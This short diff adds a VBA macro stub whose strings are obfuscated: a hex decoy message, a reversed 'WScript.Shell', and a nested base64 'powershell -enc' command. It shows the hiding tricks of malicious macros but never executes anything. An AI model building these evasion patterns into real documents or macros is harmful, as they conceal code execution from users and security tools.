@@ -1,0 +1,4 @@
+Sub T()
+  x = "4e6f7468696e6720746f20736565206865726521" & StrReverse("llehS.tpircSW")
+  y = "cG93ZXJzaGVsbCAtZW5jIGNHOTNaWEp6YUdWc2JDQXRibTl3"
+End Sub
